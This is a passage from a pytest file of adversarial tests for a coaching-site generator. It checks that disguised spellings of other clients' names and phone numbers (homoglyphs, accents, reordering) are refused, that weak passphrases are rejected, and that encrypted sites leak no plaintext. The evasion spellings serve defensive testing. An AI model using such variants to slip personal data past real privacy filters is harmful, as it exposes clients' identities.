                "engagements/sofia-marquez.yml",
                "      Thank you for a frank first hour, Sofia. Here is what I took away.\n",
                f"      Thank you for a frank first hour, Sofia. Here is what I took away. {spelled}\n",
            ),
            build("sofia-marquez"),
            Refused(("identifies another client", owner), ("site/clients/sofia-marquez",)),
        )
        for name, spelled, owner in (
            ("family-name-first", "Whitfield, Dana called.", "dana-whitfield"),
            ("with-a-title", "Ms Whitfield called.", "dana-whitfield"),
            ("in-brackets", "Kwame (Asante) called.", "kwame-asante"),
            ("hyphenated", "Dana-Whitfield called.", "dana-whitfield"),
            ("with-an-accent", "Dana Whitfíeld called.", "dana-whitfield"),
            ("small-capital", "Dana Whɪtfield called.", "dana-whitfield"),
            ("organisation-run-together", "HaldenLogistics called.", "dana-whitfield"),
            ("phone-national", "Call 07700 900652.", "dana-whitfield"),
            ("phone-unspaced", "Call +447700900652.", "dana-whitfield"),
            ("phone-trunk-in-brackets", "Call +44 (0)7700 900652.", "dana-whitfield"),
        )
    ),
    # The owner's own name and number, however written, are no leak on their own site.
    Case(
        "own-name-spelled-any-way",
        replace(
            "engagements/sofia-marquez.yml",
            "      Thank you for a frank first hour, Sofia. Here is what I took away.\n",
            "      Thank you for a frank first hour, Ms Marquez (Marquez, Sofia; call 07700 900418).\n",
        ),
        build("sofia-marquez"),
        Safe(in_page("sofia-marquez", "sessions/index.html", "Ms Marquez (Marquez, Sofia; call 07700 900418)")),
    ),
    # 7. Encryption: no passphrase, no site; with one, no plaintext anywhere.
    Case(
        "encrypted-site-without-a-passphrase",
        append("engagements/dana-whitfield.yml", "\nsite:\n  encrypt: true\n"),
        build("dana-whitfield"),
        Refused(
            ("has no passphrase", "coachbook passphrase dana-whitfield", "COACHBOOK_PASSPHRASE_DANA_WHITFIELD"),
            ("site/clients/dana-whitfield",),
        ),
    ),
    *(
        Case(
            f"weak-passphrase-{name}",
            append("engagements/dana-whitfield.yml", "\nsite:\n  encrypt: true\n"),
            build("dana-whitfield"),
            Refused(
                ("too weak", "COACHBOOK_PASSPHRASE_DANA_WHITFIELD", "coachbook passphrase dana-whitfield --rotate"),
                ("site/clients/dana-whitfield",),
            ),
            env={"COACHBOOK_PASSPHRASE_DANA_WHITFIELD": weak},
        )
        for name, weak in (
            ("word-and-year", "coaching2024"),
            ("capital-and-symbol", "Coaching2024!"),
            ("the-clients-own-name", "dana-whitfield-halden-2026"),
            ("a-famous-phrase", "correct horse battery staple"),
            ("a-keyboard-walk", "qwertyuiopasdfghjkl"),
            ("repeated", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"),
        )
    ),
    Case(
        "weak-passphrase-in-the-secrets-folder",
        both(
            append("engagements/dana-whitfield.yml", "\nsite:\n  encrypt: true\n"),
            write("secrets/passphrases/dana-whitfield.txt", "Summer2026\n"),
        ),
        build("dana-whitfield"),
        Refused(
            ("too weak", "secrets/passphrases/dana-whitfield.txt", "coachbook passphrase dana-whitfield"),
            ("site/clients/dana-whitfield",),
        ),
    ),
    Case(
        "encrypted-site-holds-no-plaintext",
        append("engagements/dana-whitfield.yml", "\nsite:\n  encrypt: true\n"),
        build("dana-whitfield"),
        Safe(
            all_of(
                nowhere(
                    "dana-whitfield",
                    "Dana Whitfield",
                    "Halden Logistics",
                    "Priya Raman",
                    "running the operation, not fighting its incidents",
                    "Callum",
                ),
                lambda firm: _absent(firm / "site" / "clients" / "dana-whitfield" / "search"),
            )
        ),
        env={
            "COACHBOOK_PASSPHRASE_DANA_WHITFIELD": "test-only-passphrase-not-secret",
            # Dana's sponsor site is encrypted too, with a passphrase of its own.
            "COACHBOOK_PASSPHRASE_DANA_WHITFIELD__SPONSOR": "another-test-only-passphrase-for-the-sponsor",
        },
    ),
    Case(
        "unguessable-address-replaces-the-slug",
        append("engagements/sofia-marquez.yml", "\nsite:\n  id: q3vd7kx2mwp5hzn4rbt6yjc2la\n"),
        build("sofia-marquez"),
        Safe(
            lambda firm: (
                in_page("q3vd7kx2mwp5hzn4rbt6yjc2la", "index.html", "Sofia Marquez")(firm),
                _absent(firm / "site" / "clients" / "sofia-marquez"),
            )
        ),
    ),
]


def _absent(path: Path) -> None:
    assert not path.exists(), f"{path} exists"


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_adversarial_input(case: Case, firm: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    case.arrange(firm)
    for name, value in case.env.items():
        monkeypatch.setenv(name, value)
    result = run_coachbook(firm, *case.command)
    output = result.stdout + result.stderr
    assert "Traceback" not in output, output
    if isinstance(case.outcome, Refused):
        assert result.returncode == 1, output
        for phrase in case.outcome.says:
            assert phrase.lower() in output.lower(), f"{phrase!r} not in:\n{output}"
        for relative in case.outcome.unwritten:
            _absent(firm / relative)
        assert not (firm / "pwned").exists()
    elif isinstance(case.outcome, Warned):
        assert result.returncode == 0, output
        for phrase in case.outcome.says:
            assert phrase.lower() in output.lower(), f"{phrase!r} not in:\n{output}"
    else:
        assert result.returncode == 0, output
        case.outcome.check(firm)


def test_the_table_covers_every_point_with_at_least_25_cases() -> None:
    assert len(CASES) >= 25
    assert len({case.id for case in CASES}) == len(CASES)
    assert any(isinstance(case.outcome, Safe) for case in CASES)
